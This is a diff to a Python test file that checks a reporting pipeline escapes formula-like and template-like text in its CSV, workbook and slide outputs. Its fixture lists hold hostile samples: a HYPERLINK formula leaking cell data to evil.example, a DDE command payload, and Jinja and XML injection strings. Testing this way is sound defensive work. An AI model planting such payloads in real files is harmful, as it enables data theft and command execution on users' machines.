@@ -12,18 +12,31 @@ import re
 import pytest
 
 from pipeline.render.pptx import render_deck
-from pipeline.render.text import FORMULA_PREFIXES, clean_text, neutralise_formula
 from pipeline.render.workbook import render_workbook
 from pipeline.runner.csvout import FINDINGS_COLUMNS, REJECTS_COLUMNS, findings_csv, to_csv
-from tests.hostile.conftest import (E2E_HOSTNAMES, FORMULA_LIKE, FORMULA_PRODUCTS, QBR, QUARTER, REJECTED_VALUES,
-                                    TEXT_CLIENT, UNKNOWN_CLIENT, client_entries, client_file, embedded_workbooks,
-                                    formula_cells, read_csv, review_with, xlsx_cells, xlsx_column, xlsx_value)
+from tests.hostile.conftest import (E2E_HOSTNAMES, FORMULA_LIKE, FORMULA_PRODUCTS, FORMULA_STARTS, QBR, QUARTER,
+                                    REJECTED_VALUES, TEXT_CLIENT, UNKNOWN_CLIENT, client_entries, client_file,
+                                    embedded_workbooks, formula_cells, read_csv, review_with, xlsx_cells, xlsx_column,
+                                    xlsx_value)
 
-RISKY = tuple(FORMULA_PREFIXES)
+# FORMULA_LIKE, each with the leading apostrophe that keeps it text.
+FORMULA_LIKE_AS_TEXT = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+SUM(1,2)", "'-2+3", "'@SUM(A1:A2)",
+                        "'\tTAB=1+1", "'\rCR=1+1", "'=cmd|' /C calc'!A0"]
+# E2E_HOSTNAMES as they must come out of a spreadsheet cell: formula-like ones behind an apostrophe.
+E2E_HOSTNAMES_AS_TEXT = ["'=HYPERLINK(\"http://evil/\",\"click\")", "'+SUM(1,2)", "'-2+3", "'@SUM(A1:A2)",
+                         "'=cmd|' /C calc'!A0", "{{ config }}", "{% for x in range(10**9) %}loop{% endfor %}",
+                         "{{ ''|attr('__class__') }}", "{_{ config }_}", "<b>Tom & Jerry's \"shop\"</b>",
+                         "A &amp; B &lt;c&gt;", "</w:t></w:r><w:r><w:t>injected", "]]> <![CDATA[x"]
 
 
 def _risky(text: str) -> bool:
-    return text.startswith(RISKY)
+    return text.startswith(FORMULA_STARTS)
+
+
+def test_the_literal_expectations_match_their_inputs():
+    """The lists above pair up with the hostile inputs (a guard against editing one and not the other)."""
+    assert len(FORMULA_LIKE_AS_TEXT) == len(FORMULA_LIKE) and len(E2E_HOSTNAMES_AS_TEXT) == len(E2E_HOSTNAMES)
+    assert [t.lstrip("'") for t in FORMULA_LIKE_AS_TEXT] == FORMULA_LIKE
 
 
 # ----------------------------------------------------------------------------- the findings workbook
@@ -43,8 +56,7 @@ def test_findings_workbook_stores_formula_like_text_as_text():
     for cell in texts:
         assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} {cell.value!r}"
         assert not _risky(xlsx_value(cell)), f"{cell.parent.title}!{cell.coordinate} {cell.value!r} is unprotected"
-    expected = [neutralise_formula(clean_text(s)) for s in FORMULA_LIKE]
-    assert all(v.startswith("'") for v in expected)
+    expected = FORMULA_LIKE_AS_TEXT
     for sheet, header in TEXT_COLUMNS:
         found = [xlsx_value(c) for c in xlsx_column(data, sheet, header)]
         if sheet in ("Initiatives", "Budget"):  # every initiative covers the same items; totals under the budget
@@ -104,7 +116,7 @@ def test_chart_workbooks_in_the_deck_hold_no_formula(base_context):
                 assert cell.data_type == "s", (name, cell.coordinate, cell.value)
                 strings.add(xlsx_value(cell))
     for label in FORMULA_LIKE:  # stored as the literal text (no prefix needed: it is a string cell)
-        assert clean_text(label) in strings, label
+        assert label in strings, label
     assert {"=2026-Q3", "+2026-Q4"} <= strings
 
 
@@ -127,11 +139,12 @@ def _raw_rows(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
-@pytest.mark.parametrize("text", FORMULA_LIKE + ["\t", "\r", "=", "-", "\x00=1+1", "\x1b@x"])
-def test_csv_text_cells_get_a_leading_apostrophe(text):
+@pytest.mark.parametrize("text, expected", [*zip(FORMULA_LIKE, FORMULA_LIKE_AS_TEXT),
+                                            ("\t", "'\t"), ("\r", "'\r"), ("=", "'="), ("-", "'-"),
+                                            ("\x00=1+1", "'=1+1"), ("\x1b@x", "'@x")])
+def test_csv_text_cells_get_a_leading_apostrophe(text, expected):
     rows = _raw_rows(to_csv(REJECTS_COLUMNS, [{"file": text, "line": 3, "column": text, "value": text,
                                               "reason": text}]))
-    expected = "'" + clean_text(text)
     assert rows[1] == [expected, "3", expected, expected, expected]
 
 
@@ -156,8 +169,8 @@ def test_findings_csv_of_the_run_neutralises_hostile_subjects_and_titles(hostile
     rows = read_csv(path)
     assert list(rows[0]) == list(FINDINGS_COLUMNS)
     subjects = {r["subject"] for r in rows}
-    for host in E2E_HOSTNAMES:
-        assert (("'" + host) if _risky(host) else host) in subjects, host
+    for host in E2E_HOSTNAMES_AS_TEXT:
+        assert host in subjects, host
     for product in FORMULA_PRODUCTS:
         assert "'" + product in subjects
         assert any(r["title"].startswith("'" + product) for r in rows), product
@@ -211,5 +224,5 @@ def test_workbooks_and_chart_workbooks_of_the_run_hold_no_formula(hostile_run):
             assert formula_cells(blob) == [], book
     hosts = [xlsx_value(c) for c in xlsx_column(client_file(hostile_run.out, entries[TEXT_CLIENT], "workbook")
                                                 .read_bytes(), "Devices", "Hostname")]
-    for host in E2E_HOSTNAMES:
-        assert neutralise_formula(host) in hosts, host
+    for host in E2E_HOSTNAMES_AS_TEXT:
+        assert host in hosts, host
